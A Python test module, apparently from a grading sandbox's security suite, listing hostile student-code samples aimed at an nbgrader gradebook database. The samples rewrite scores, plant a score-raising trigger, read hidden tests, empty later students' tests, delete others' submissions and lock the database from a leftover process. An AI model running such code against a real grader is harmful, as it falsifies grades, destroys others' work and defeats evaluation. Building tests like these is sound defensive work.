"""Student code opens the gradebook."""

from functools import partial

from .attack import coded

code = partial(coded, "database")
OPEN = """
import os
import sqlite3

assert os.path.exists("$COURSE/gradebook.db")
book = sqlite3.connect("$COURSE/gradebook.db", timeout=2)
"""
DATABASE = [
    code(
        "manual_score",
        "writes points given by hand into the gradebook",
        OPEN + 'book.execute("UPDATE grade SET manual_score = 3")\nbook.commit()\nbook.close()',
    ),
    code(
        "trigger",
        "leaves a trigger that raises each score that is written",
        OPEN
        + """
book.execute(
    "CREATE TRIGGER more AFTER UPDATE ON grade WHEN new.auto_score = 0 "
    "BEGIN UPDATE grade SET auto_score = 2 WHERE id = new.id; END"
)
book.commit()
book.close()
""",
    ),
    code(
        "read_hidden_tests",
        "reads the hidden tests out of the gradebook",
        OPEN
        + """
for (source,) in book.execute("SELECT source FROM source_cell"):
    if source and "{2, 3, 5, 7}" in source:
        q1 = [2, 3, 5, 7]
""",
    ),
    code(
        "change_points",
        "changes how many points each question has",
        OPEN + 'book.execute("UPDATE grade_cells SET max_score = 100")\nbook.commit()',
    ),
    code(
        "change_tests",
        "empties the tests that the gradebook keeps for later students",
        OPEN
        + "book.execute(\"UPDATE source_cell SET source = '1.0' WHERE source LIKE '%assert%'\")\n"
        + "book.commit()",
    ),
    code(
        "delete_students",
        "deletes the submissions of others",
        OPEN + 'book.execute("DELETE FROM submitted_assignment")\nbook.commit()',
    ),
    code(
        "lock_the_book",
        "keeps the gradebook locked from a process that it leaves behind",
        OPEN
        + """
import time

if os.fork() == 0:
    os.setsid()
    book = sqlite3.connect("$COURSE/gradebook.db", timeout=30)
    book.execute("BEGIN EXCLUSIVE")
    time.sleep(60)
    os._exit(0)
""",
    ),
    code(
        "through_the_api",
        "asks nbgrader's own interface for a full score",
        """
from nbgrader.api import Gradebook

with Gradebook("sqlite:///$COURSE/gradebook.db") as book:
    for student in book.students:
        for submission in student.submissions:
            for notebook in submission.notebooks:
                for grade in notebook.grades:
                    grade.manual_score = grade.max_score
    book.db.commit()
""",
    ),
]
